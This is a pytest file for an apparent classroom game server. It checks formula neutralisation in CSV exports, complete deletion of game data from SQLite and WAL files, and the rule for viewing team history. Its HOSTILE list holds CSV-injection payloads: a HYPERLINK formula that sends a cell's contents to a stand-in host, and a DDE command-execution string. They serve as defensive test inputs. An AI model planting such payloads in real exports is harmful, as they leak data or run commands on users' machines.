"""Children's data, in one process: exports that carry no formula, deletes that
delete forks and leave no text in SQLite's files, and the retention purge."""

from __future__ import annotations

import csv
import io
import itertools
import sqlite3
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient

from server.settings import Limits
from server.spreadsheet import BOM, FORMULA_START
from tests.server.helpers import DB_FILE, SCENARIO, sqlite_app


def _create(client: TestClient) -> dict[str, Any]:
    response = client.post("/api/games", json={"scenario": SCENARIO, "seed": 3})
    assert response.status_code == 201, response.text
    return dict(response.json())


def _auth(game: dict[str, Any]) -> dict[str, str]:
    return {"Authorization": f"Bearer {game['instructor_key']}"}


def _act(client: TestClient, game: dict[str, Any], action: dict[str, Any]) -> None:
    response = client.post(f"/api/games/{game['game_id']}/actions", json={"action": action},
                           headers=_auth(game))
    assert response.status_code == 200, (action, response.text)


_client_ids = itertools.count(1)


def _say_as(client: TestClient, token: str, action: dict[str, Any]) -> None:
    with client.websocket_connect("/ws") as ws:
        ws.send_json({"type": "hello", "token": token})
        assert ws.receive_json()["type"] == "welcome"
        ws.send_json({"type": "act", "client_id": f"c{next(_client_ids)}", "action": action})
        for _ in range(50):
            frame = ws.receive_json()
            if frame["type"] in ("ack", "error"):
                assert frame["type"] == "ack", frame
                return
    raise AssertionError("no answer")


# Exports carry no formula.

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1"]


def test_every_cell_of_the_grading_csv_is_neutralised_and_the_file_has_a_bom(
        client: TestClient) -> None:
    game = _create(client)
    students = {}
    for nickname, country in (("@Ada", "EST"), ("-Boris", "EST"), ("=Chen", "NOR"),
                              ("Türkiye fan", "TUR")):
        seat = client.post(f"/api/join/{game['code']}", json={"nickname": nickname,
                                                              "country": country})
        assert seat.status_code == 201, seat.text
        students[nickname] = seat.json()["token"]
    _act(client, game, {"kind": "start"})
    ada, chen = students["@Ada"], students["=Chen"]
    for text in HOSTILE:
        _say_as(client, ada, {"kind": "say", "channel": "public", "text": text})
    _say_as(client, chen, {"kind": "table_draft", "draft": "=1+2", "title": "+title",
                           "text": "=draft"})
    _say_as(client, students["Türkiye fan"], {"kind": "say", "channel": "public",
                                              "text": "Türkiye speaks"})

    response = client.get(f"/api/games/{game['game_id']}/export.csv", headers=_auth(game))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    raw = response.content
    assert raw.startswith(BOM), raw[:10]
    rows = list(csv.reader(io.StringIO(raw[len(BOM):].decode("utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], \
        [c for c in cells if c.startswith(FORMULA_START)]
    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    said = [r["text"] for r in body if r["student"] == "'@Ada"]
    assert said == ["'" + text for text in HOSTILE]
    assert {r["team"] for r in body if r["country"] == "EST"} == {"'@Ada; -Boris"}
    draft = next(r for r in body if r["kind"] == "table_draft")
    assert (draft["student"], draft["channel_or_item"], draft["text"]) == \
        ("'=Chen", "'=1+2", "'=draft")
    assert any(r["text"] == "Türkiye speaks" and r["student"] == "Türkiye fan" for r in body)


# Deleted means deleted: in SQLite's files too.


def _files(tmp_path: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in tmp_path.glob(f"{DB_FILE}*")}


def test_a_deleted_games_text_is_in_neither_the_database_file_nor_its_log(
        tmp_path: Path) -> None:
    marker = "Zyxwvut-private-plan"
    # (31 messages from one seat at once: more than its rate limit lets through.)
    with sqlite_app(tmp_path, limits=Limits(actions_per_second=1000, burst=1000)) as client:
        game, other = _create(client), _create(client)
        seat = client.post(f"/api/join/{game['code']}", json={"nickname": f"{marker}-nick",
                                                              "country": "EST"}).json()
        _act(client, game, {"kind": "start"})
        for i in range(30):
            _say_as(client, seat["token"], {"kind": "say", "channel": "team:EST",
                                            "text": f"{marker} {i} " + "x" * 500})
        client.post(f"/api/games/{game['game_id']}/annotations", headers=_auth(game),
                    json={"seq": 1, "text": f"{marker} note"})
        # Part of it in the database file itself, part only in the log.
        with sqlite3.connect(tmp_path / DB_FILE) as conn:
            assert conn.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchone()[0] == 0
        _say_as(client, seat["token"], {"kind": "say", "channel": "team:EST",
                                        "text": f"{marker} in the log"})
        files = _files(tmp_path)
        assert marker.encode() in files[DB_FILE]
        assert marker.encode() in files[f"{DB_FILE}-wal"]
        with client.websocket_connect("/ws") as ws:  # a reader holding a connection open
            ws.send_json({"type": "hello", "token": other["instructor_key"]})
            assert ws.receive_json()["type"] == "welcome"
            assert client.delete(f"/api/games/{game['game_id']}",
                                 headers=_auth(game)).status_code == 204
            files = _files(tmp_path)
            assert files, "no database files"
            assert not [name for name, data in files.items() if marker.encode() in data], \
                {name: len(data) for name, data in files.items()}
            assert len(files.get(f"{DB_FILE}-wal", b"")) == 0
        assert client.get(f"/api/games/{other['game_id']}",
                          headers=_auth(other)).status_code == 200


# New team-mates and the team's history: the default rule.


def test_by_default_new_team_mates_read_the_history_only_in_the_games_first_ten_minutes(
        tmp_path: Path) -> None:
    import time

    with sqlite_app(tmp_path) as client:
        game = _create(client)
        first = client.post(f"/api/join/{game['code']}",
                            json={"nickname": "ada", "country": "EST"}).json()
        _act(client, game, {"kind": "start"})
        _say_as(client, first["token"], {"kind": "say", "channel": "team:EST",
                                         "text": "TEAM-PLAN"})
        games = client.app.state.services.games  # type: ignore[attr-defined]

        def team_talk(nickname: str) -> str:
            seat = client.post(f"/api/join/{game['code']}",
                               json={"nickname": nickname, "country": "EST"}).json()
            with client.websocket_connect("/ws") as ws:
                ws.send_json({"type": "hello", "token": seat["token"]})
                return json_text(ws.receive_json())

        games.clock = lambda: time.time() + 9 * 60
        assert "TEAM-PLAN" in team_talk("ben")
        games.clock = lambda: time.time() + 11 * 60
        assert "TEAM-PLAN" not in team_talk("cy")


def json_text(value: Any) -> str:
    import json

    return json.dumps(value)
